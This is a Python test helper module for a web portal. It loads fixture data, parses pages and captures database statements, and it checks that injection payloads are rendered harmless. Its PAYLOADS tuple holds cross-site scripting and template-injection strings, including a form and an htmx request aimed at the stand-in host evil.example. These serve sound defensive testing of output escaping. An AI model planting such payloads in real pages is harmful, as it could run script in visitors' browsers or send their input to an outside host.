"""The facts that the demo loads, payloads of injection tests, and helpers to read pages."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from selectolax.lexbor import LexborHTMLParser, LexborNode
from sqlalchemy import event

from portal.core.extensions import db
from tests.fixtures import InspectedResponse

FACTS = Path(__file__).resolve().parents[1] / "portal" / "operations" / "facts"
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=q id=results>",
    "<div data-hx-get='//evil.example' data-hx-trigger=load>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
)
ALIVE = (
    "main script, main iframe, main img, main input#results, main form:not(#filter-form), head img, title *, "
    "[onerror], [onload], [srcdoc], [data-hx-trigger=load]"
)


def facts(name: str) -> dict[str, Any]:
    """Return the content of a file of facts, such as "organisations"."""
    loaded: dict[str, Any] = json.loads((FACTS / f"{name}.json").read_text(encoding="utf-8"))
    return loaded


def assert_harmless(page: InspectedResponse) -> None:
    """Fail when the markup of a payload became part of the page, or a link runs script."""
    assert [node.html for node in page.tree.css(ALIVE)] == []
    for address in page.attributes("main [href]", "href"):
        assert not address.strip().lower().startswith(("javascript:", "data:")), address


def linked_data(page: InspectedResponse) -> dict[str, Any]:
    """Return the JSON-LD of a page that has one block, parsed as a browser would: up to the first end tag."""
    source = page.get_data(as_text=True)
    opening = '<script type="application/ld+json">'
    assert source.count(opening) == 1
    start = source.index(opening) + len(opening)
    data: dict[str, Any] = json.loads(source[start : source.index("</script>", start)])
    return data


def child(node: LexborNode | LexborHTMLParser, selector: str) -> LexborNode:
    """Return the first match of a selector within a node; fails when there is none."""
    found = node.css_first(selector)
    assert found is not None, selector
    return found


def squeezed(node: LexborNode) -> str:
    """Return the text of a node with white space collapsed."""
    return " ".join(node.text().split())


@contextmanager
def statements() -> Iterator[list[str]]:
    """Collect the statements sent to the database within the block, except BEGIN."""
    asked: list[str] = []

    def note(_connection: object, _cursor: object, statement: str, *_rest: object) -> None:
        if not statement.startswith("BEGIN"):
            asked.append(statement)

    event.listen(db.engine, "before_cursor_execute", note)
    try:
        yield asked
    finally:
        event.remove(db.engine, "before_cursor_execute", note)
